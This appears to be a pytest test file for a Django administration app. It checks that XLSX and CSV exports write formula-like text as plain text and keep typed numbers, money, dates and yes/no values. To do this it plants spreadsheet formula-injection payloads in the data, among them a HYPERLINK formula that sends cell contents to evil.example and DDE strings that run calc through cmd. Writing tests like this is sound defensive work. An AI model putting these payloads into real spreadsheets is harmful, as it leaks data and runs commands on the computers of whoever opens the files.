"""Every XLSX and CSV export is safe to open: text that a spreadsheet would take for a
formula is written as text, and values keep their types (numbers, money, dates, 是/否).

The payloads go into the free text each export carries (a village's name, which every
export shows, and the narrative, description, content, summary and title fields), then
every export is downloaded in both formats as the sub-district administrator.
"""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command

from jinhu.core import clock, periods

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
PAYLOADS = {
    "village": LEAK,
    "narrative": "+1+cmd|' /C calc'!A0",
    "finding": "-2+3",
    "suggestion": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dutylog": "\t=1+1",
    "target": "\r=2+2",
}


@pytest.fixture
def world(db):
    from attendance.models import DutyLogEntry
    from demonstration_belt.models import Finding, MonthlyReport, Suggestion, Target
    from villages.models import Village

    call_command("load_demo", verbosity=0)
    village = Village.objects.filter(reports__isnull=False).distinct().first()
    Village.objects.filter(pk=village.pk).update(name=PAYLOADS["village"])
    MonthlyReport.objects.filter(village=village).update(narrative=PAYLOADS["narrative"])
    Finding.objects.filter(pk__in=Finding.objects.values("pk")[:1]).update(
        description=PAYLOADS["finding"]
    )
    Suggestion.objects.filter(pk__in=Suggestion.objects.values("pk")[:1]).update(
        content=PAYLOADS["suggestion"]
    )
    DutyLogEntry.objects.filter(pk__in=DutyLogEntry.objects.values("pk")[:1]).update(
        summary=PAYLOADS["dutylog"]
    )
    Target.objects.filter(pk__in=Target.objects.values("pk")[:1]).update(title=PAYLOADS["target"])
    return village


def _exports():
    last = periods.last_complete_month(clock.today())
    year = f"year={last.year}"
    return {
        "reports": "/belt/reports/?{}",
        "findings": "/belt/findings/?{}",
        "suggestions": "/belt/suggestions/?{}",
        "bulletin": f"/belt/bulletin/?{year}&month={last.month}&{{}}",
        "bulletin-year": f"/belt/bulletin/?{year}&month=0&{{}}",
        "targets": f"/belt/targets/export.xlsx?{year}&{{}}",
        "duty-log": f"/attendance/dutylog/entries/?{year}&{{}}",
        "economy-monthly": f"/economy/export/monthly.{{fmt}}?{year}",
        "economy-annual": "/economy/export/annual.{fmt}",
    }


def _get(client, template: str, fmt: str):
    url = template.replace("{fmt}", fmt).replace("{}", f"export={fmt}")
    response = client.get(url)
    assert response.status_code == 200, url
    return response


def _xlsx_cells(content: bytes):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, f"a formula in {name}"
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2):
            yield from row


@pytest.mark.time_sensitive
def test_every_export_writes_formula_text_as_text_in_both_formats(world, client):
    client.force_login(get_user_model().objects.get(username="admin"))
    seen_xlsx, seen_csv = set(), set()
    for name, template in _exports().items():
        for cell in _xlsx_cells(_get(client, template, "xlsx").content):
            assert cell.data_type != "f", f"{name}: {cell.coordinate} is a formula"
            # (an XML reader turns a stored CR into LF)
            if isinstance(cell.value, str) and cell.value.startswith((*FORMULA_STARTS, "\n")):
                assert cell.data_type == "s" and cell.quotePrefix, f"{name}: {cell.value!r}"
                seen_xlsx.add(cell.value.replace("\n", "\r"))
        text = _get(client, template, "csv").content.decode("utf-8-sig")
        for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:
            for value in row:
                if value.startswith(FORMULA_STARTS):
                    # (only a number may start with a minus sign)
                    assert value.startswith("-") and Decimal(value), f"{name}: {value!r}"
                if value.startswith("'") and value[1:] in PAYLOADS.values():
                    seen_csv.add(value[1:])
    # Each payload was really exported somewhere, untouched apart from its marking.
    assert seen_xlsx == set(PAYLOADS.values())
    assert seen_csv == set(PAYLOADS.values())


@pytest.mark.time_sensitive
def test_exports_keep_types_numbers_money_dates_and_yes_no(world, client):
    client.force_login(get_user_model().objects.get(username="admin"))
    exports = _exports()

    reports = openpyxl.load_workbook(io.BytesIO(_get(client, exports["reports"], "xlsx").content))
    header, *rows = list(reports.active.iter_rows())
    columns = {cell.value: i for i, cell in enumerate(header)}
    first = rows[0]
    assert isinstance(first[columns["年度"]].value, int)
    assert isinstance(first[columns["月份"]].value, int)
    due = first[columns["报送期限"]]
    assert isinstance(due.value, dt.datetime) and due.number_format == "yyyy-mm-dd"

    annual = openpyxl.load_workbook(
        io.BytesIO(_get(client, exports["economy-annual"], "xlsx").content)
    )
    header, *rows = list(annual.active.iter_rows())
    columns = {cell.value: i for i, cell in enumerate(header)}
    money = rows[0][columns["总收入（元）"]]
    assert isinstance(money.value, int | float) and money.number_format == "#,##0.00"
    assert {r[columns["已决算"]].value for r in rows} <= {"是", "否"}

    text = _get(client, exports["economy-annual"], "csv").content.decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    final = header.index("已决算")
    assert {r[final] for r in rows} <= {"是", "否"}
    income = header.index("总收入（元）")
    assert all(Decimal(r[income]) >= 0 for r in rows)  # plain numbers, no thousands marks

    log = openpyxl.load_workbook(io.BytesIO(_get(client, exports["duty-log"], "xlsx").content))
    header, *rows = list(log.active.iter_rows())
    columns = {cell.value: i for i, cell in enumerate(header)}
    assert rows, "the demo has duty-log entries"
    assert isinstance(rows[0][columns["接待人数"]].value, int)
    recorded = rows[0][columns["记录时间"]]
    assert isinstance(recorded.value, dt.datetime)
    assert recorded.number_format == "yyyy-mm-dd hh:mm"


def test_csv_is_excel_friendly_and_named_in_chinese(world, client):
    client.force_login(get_user_model().objects.get(username="admin"))
    response = client.get("/belt/suggestions/?export=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # BOM: WPS and Excel read UTF-8
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    assert "export.csv" in response["Content-Disposition"]
